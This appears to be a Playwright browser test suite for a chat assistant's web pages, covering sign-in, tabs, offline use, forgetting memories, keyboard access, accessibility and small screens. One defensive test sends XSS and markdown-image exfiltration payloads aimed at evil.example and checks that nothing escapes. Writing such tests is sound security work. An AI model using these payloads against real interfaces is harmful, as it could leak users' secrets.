@@ -1,0 +1,273 @@
+"""The web page in a real browser: as people use it, by keyboard, on small screens, without a script, and with axe."""
+
+from __future__ import annotations
+
+import re
+import secrets
+from typing import Any
+
+import pytest
+from axe_playwright_python.async_playwright import Axe
+from playwright.async_api import Browser, expect
+from playwright.async_api import Page as Shown
+
+from gateway.page.visitors import leave_code
+from tests.browser.conftest import Opening
+from tests.kit.browser import MISSING, found
+from tests.kit.visit import Guest, Page
+
+# One loop for all, as they share a browser and a served page.
+pytestmark = [
+    pytest.mark.asyncio(loop_scope="session"),
+    pytest.mark.skipif(found() is None, reason=MISSING),
+]
+PATHS = ("/chat/main", "/memory", "/memory?q=Bern", "/timeline", "/entities", "/night", "/me", "/nowhere")
+
+
+async def lived_in(guest: Guest) -> list[str]:
+    """Has somebody tell a few things; returns the paths of all their pages."""
+    for text in ("I live in Bern", "My sister is called Marta Keller", "I am allergic to nuts", "Where do I live?"):
+        await guest.say(text)
+    one = (await guest.get("/memory?q=Bern")).text.partition('href="/memory/')[2].partition('"')[0]
+    turn = (await guest.get("/chat/main")).text.partition('href="/why/')[2].partition('"')[0]
+    name = (await guest.get("/entities")).text.partition('<a href="/entities/')[2].partition('"')[0]
+    return [*PATHS, f"/memory/{one}", f"/why/{turn}", f"/entities/{name}"]
+
+
+async def say(shown: Shown, text: str) -> None:
+    await shown.fill("#text", text)
+    await shown.press("#text", "Enter")
+
+
+async def test_the_link_signs_in_and_tells_whom(page: Page, browser: Browser) -> None:
+    """The code leaves the address bar before anything else happens, and works once."""
+    code = secrets.token_urlsafe(8)
+    leave_code(page.data, code, "Ada Link")
+    context = await browser.new_context(base_url=page.url)
+    shown = await context.new_page()
+    await shown.goto(f"/in#{code}")
+    button = shown.get_by_role("button", name="Continue as Ada Link")
+    await button.wait_for()
+    assert code not in shown.url
+    await button.click()
+    await shown.wait_for_url("**/chat/main")
+    await shown.goto(f"/in#{code}")
+    await expect(shown.get_by_role("alert")).to_contain_text("not valid")
+    await context.close()
+
+
+async def test_an_answer_grows_in_every_tab(opening: Opening) -> None:
+    """And stands there once, also after the page is loaded again."""
+    first, _ = await opening("tabs")
+    second = await first.context.new_page()
+    for shown in (first, second):
+        await shown.goto("/chat/main")
+    await say(first, "I live in Bern")
+    for shown in (first, second):
+        await expect(shown.locator(".item.mine")).to_have_count(1)
+        await expect(shown.locator(".item.theirs:not(.growing)")).to_have_count(1)
+        await expect(shown.locator("#nothing")).to_have_count(0)
+        await expect(shown.get_by_role("link", name="Why this answer?")).to_have_count(1)
+    before = await first.locator(".item").all_inner_texts()
+    await first.reload()
+    await expect(first.locator(".item")).to_have_count(2)
+    assert await first.locator(".item").all_inner_texts() == before
+    assert await first.input_value("#text") == ""
+
+
+async def test_a_lost_connection_comes_back_and_brings_what_was_missed(opening: Opening) -> None:
+    shown, guest = await opening("lost")
+    await shown.goto("/chat/main")
+    await say(shown, "I play chess")
+    await expect(shown.get_by_role("link", name="Why this answer?")).to_have_count(1)
+    await shown.context.set_offline(True)
+    await guest.say("I play the oboe")
+    await shown.context.set_offline(False)
+    await expect(shown.locator(".item.mine")).to_have_count(2, timeout=20_000)
+    await expect(shown.get_by_role("link", name="Why this answer?")).to_have_count(2)
+
+
+async def test_a_message_that_is_not_sent_stays_in_its_field(opening: Opening) -> None:
+    shown, _ = await opening("offline")
+    await shown.goto("/chat/main")
+    await expect(shown.locator("#nothing")).to_be_visible()
+    await shown.context.set_offline(True)
+    await say(shown, "do not lose this")
+    await expect(shown.locator("#text")).to_have_value("do not lose this")
+    await expect(shown.get_by_role("status")).not_to_have_text("")
+    await shown.context.set_offline(False)
+    await shown.click("#send")
+    await expect(shown.locator(".item.mine")).to_have_count(1)
+
+
+async def test_a_question_is_answered_by_its_button(opening: Opening) -> None:
+    """Forgetting from the conversation: asked, pressed, gone, also when going back."""
+    shown, _ = await opening("forgets")
+    await shown.goto("/chat/main")
+    await say(shown, "/remember the safe is behind the mirror")
+    await expect(shown.locator(".item.theirs")).to_have_count(1)
+    await say(shown, "/forget mirror")
+    await shown.locator(".buttons button").first.click()
+    await expect(shown.locator(".item.theirs").last).to_contain_text("Forgotten")
+    await expect(shown.locator(".buttons")).to_have_count(0)
+    await shown.goto("/memory")
+    await expect(shown.locator("main")).not_to_contain_text("mirror")
+
+
+async def test_a_file_is_sent_and_an_export_saved(opening: Opening) -> None:
+    shown, _ = await opening("files")
+    await shown.goto("/chat/main")
+    file: Any = {"name": "notes.txt", "mimeType": "text/plain", "buffer": b"the pump is in the shed"}
+    await shown.set_input_files("input[type=file]", file)
+    await expect(shown.locator("#files")).to_have_text("notes.txt")
+    await say(shown, "look at this")
+    await expect(shown.locator(".item.mine")).to_contain_text("notes.txt")
+    await expect(shown.locator("#files")).to_have_text("")
+    await shown.goto("/me")
+    async with shown.expect_download() as saved:
+        await shown.get_by_role("button", name="Export everything").click()
+    assert (await saved.value).suggested_filename
+
+
+async def test_a_search_finds_while_one_types(opening: Opening) -> None:
+    shown, guest = await opening("searches")
+    await lived_in(guest)
+    await shown.goto("/memory")
+    await expect(shown.locator(".told")).not_to_have_count(1)
+    await shown.locator("#q").press_sequentially("allergic")
+    await expect(shown.locator(".list").first.locator(".told")).to_have_count(1)
+    await expect(shown.locator("#found")).to_contain_text("nuts")
+    await expect(shown).to_have_url(re.compile("q=allergic"))
+    assert await shown.input_value("#q") == "allergic"
+
+
+async def test_a_memory_is_corrected_pinned_and_forgotten_and_stays_gone(opening: Opening) -> None:
+    """Back shows nothing that was forgotten: no page is kept by the browser."""
+    shown, guest = await opening("corrects")
+    await lived_in(guest)
+    await shown.goto("/memory?q=Bern")
+    await shown.locator(".told a").first.click()
+    await shown.get_by_role("button", name="Pin").click()
+    await shown.get_by_role("link", name="Back").first.click()
+    await expect(shown.locator(".badges")).to_contain_text("pinned")
+    await shown.get_by_text("Correct it").click()
+    await shown.fill("#value", "Thun")
+    await shown.get_by_role("button", name="Save").click()
+    await shown.goto("/memory?q=Thun")
+    await shown.locator(".told a").first.click()
+    await expect(shown.locator("h1")).to_have_text("You live in Thun")
+    await expect(shown.locator(".versions ins")).to_have_text("Thun")
+    await shown.get_by_role("button", name="Forget").click()
+    await shown.locator(".buttons button").first.click()
+    await expect(shown.locator(".receipt")).to_contain_text("Forgotten")
+    # Two forms back stands the memory itself.
+    await shown.evaluate("history.go(-2)")
+    await expect(shown.get_by_role("alert")).to_contain_text("no such memory")
+    await expect(shown.locator("main")).not_to_contain_text("Thun")
+
+
+async def test_why_leads_to_the_memory_and_back(opening: Opening) -> None:
+    shown, guest = await opening("asks")
+    await lived_in(guest)
+    await shown.goto("/chat/main")
+    await shown.get_by_role("link", name="Why this answer?").last.click()
+    await expect(shown.locator("blockquote").first).to_contain_text("Where do I live?")
+    await shown.get_by_role("link", name="You live in Bern").first.click()
+    await expect(shown.locator("section", has_text="Answers it entered")).to_contain_text("Where do I live?")
+
+
+async def test_everything_works_by_keyboard_alone(opening: Opening) -> None:
+    """From the top of the page: skip, say, and reach the memory by its link."""
+    shown, _ = await opening("keys")
+    await shown.goto("/memory")
+    await shown.keyboard.press("Tab")
+    assert await shown.evaluate("document.activeElement.className") == "skip"
+    await shown.keyboard.press("Enter")
+    assert await shown.evaluate("document.activeElement.id") == "main"
+    await shown.locator("#tell").focus()
+    await shown.keyboard.type("I row on Sundays")
+    await shown.keyboard.press("Enter")
+    await expect(shown.locator(".receipt")).to_contain_text("Saved")
+    seen = set()
+    for _step in range(14):
+        await shown.keyboard.press("Tab")
+        seen.add(await shown.evaluate("document.activeElement.getAttribute('href')"))
+    assert {"/chat", "/memory", "/me"} <= seen
+    outlined = await shown.evaluate("getComputedStyle(document.activeElement).outlineStyle")
+    assert outlined == "solid", "one sees where one is"
+
+
+@pytest.mark.parametrize("theme", ["light", "dark"])
+async def test_no_page_has_a_barrier(opening: Opening, theme: str) -> None:
+    """What axe knows of WCAG, on every page; with names long enough to break things."""
+    shown, guest = await opening(f"axe {theme}", color_scheme=theme)
+    axe = Axe()
+    for path in [*await lived_in(guest), "/in"]:
+        await shown.goto(path)
+        found = await axe.run(shown)
+        assert found.violations_count == 0, f"{path}: {found.generate_report()}"
+
+
+async def test_nothing_is_cut_off_on_the_smallest_screen(opening: Opening) -> None:
+    """No page is wider than 320 pixels, also with a word that has no end; and what is pressed is large enough."""
+    shown, guest = await opening("small", viewport={"width": 320, "height": 560})
+    await guest.told("/memory", at="/memory", value=f"My password hint is {'x' * 120}")
+    for path in await lived_in(guest):
+        await shown.goto(path)
+        wide = await shown.evaluate("document.documentElement.scrollWidth")
+        over = "[...document.querySelectorAll('body *')].filter(each => each.getBoundingClientRect().right > 320.5)"
+        assert wide <= 320, (
+            f"{path} is {wide} wide: {await shown.evaluate(f'{over}.map(each => each.outerHTML.slice(0, 80))')}"
+        )
+        low = await shown.evaluate(
+            "[...document.querySelectorAll('button, .button, nav a, summary')].filter(each => each.offsetParent)"
+            ".map(each => [each.textContent.trim(), each.getBoundingClientRect().height]).filter(each => each[1] < 32)"
+        )
+        assert low == [], path
+    await shown.goto("/chat/main")
+    assert await shown.locator("#text").is_visible() and await shown.locator("#send").is_visible()
+
+
+async def test_without_a_script_one_reads_talks_and_forgets(opening: Opening) -> None:
+    shown, _ = await opening("plain", java_script_enabled=False)
+    await shown.goto("/chat/main")
+    await shown.fill("#text", "/remember the ladder is at Kurt's")
+    await shown.click("#send")
+    await expect(shown.locator(".item.theirs")).to_contain_text("ladder")
+    await shown.goto("/memory")
+    await shown.fill("#q", "ladder")
+    await shown.get_by_role("button", name="Search").click()
+    await shown.locator(".told a").first.click()
+    await shown.get_by_role("button", name="Forget").click()
+    await shown.locator(".buttons button").first.click()
+    await expect(shown.locator(".receipt")).to_contain_text("Forgotten")
+
+
+async def test_hostile_words_do_nothing(page: Page, opening: Opening) -> None:
+    """No request leaves this machine, nothing pops up, and no rule of the page is broken."""
+    shown, guest = await opening("<img src=x onerror=alert(1)>")
+    asked: list[str] = []
+    shown.on("request", lambda request: asked.append(request.url))
+    shown.on("dialog", lambda dialog: asked.append(f"dialog {dialog.message}"))
+    await shown.goto("/chat/main")
+    for text in (
+        "<script>alert(1)</script>",
+        "![x](https://evil.example/?q=secret)",
+        "<img src=https://evil.example onerror=alert(1)>",
+    ):
+        await say(shown, text)
+        await guest.post("/memory", at="/memory", value=f"My friend is called {text}")
+    await expect(shown.locator(".item.mine")).to_have_count(3)
+    for path in await lived_in(guest):
+        await shown.goto(path)
+    assert [url for url in asked if not url.startswith(page.url)] == []
+
+
+async def test_signing_out_ends_the_open_tabs(opening: Opening) -> None:
+    shown, guest = await opening("leaves")
+    await shown.goto("/chat/main")
+    await say(shown, "hello")
+    await expect(shown.locator(".item.theirs:not(.growing)")).to_have_count(1)
+    await guest.post("/out", at="/me", which="all")
+    await say(shown, "am I still here?")
+    await shown.wait_for_url("**/in")
